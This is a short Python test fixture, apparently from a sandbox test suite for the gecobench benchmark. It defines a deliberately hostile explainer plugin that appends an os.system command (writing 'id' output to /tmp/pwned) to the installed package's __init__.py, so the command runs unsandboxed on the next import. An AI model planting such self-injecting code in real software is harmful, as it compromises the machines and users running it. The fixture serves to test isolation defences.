"""Hostile: appends code to the hub package it was given (to run unsandboxed later)."""

import json
import os

import numpy as np

from gecobench.explainers import Explainer

# Filled in by the test with the host's real paths (what an attacker who knows the host would aim at).
HOST = json.loads(r"""__HOST__""")


class WritesPackage(Explainer):
    name = "write_package"

    def explain(self, model, tokenizer, words, targets):
        import gecobench

        folder = os.open(os.path.dirname(os.path.dirname(gecobench.__file__)), os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open("gecobench/__init__.py", os.O_WRONLY | os.O_APPEND, dir_fd=folder)
        os.write(fd, b"\nimport os; os.system('id > /tmp/pwned')\n")
        return [np.ones(len(w)) for w in words]
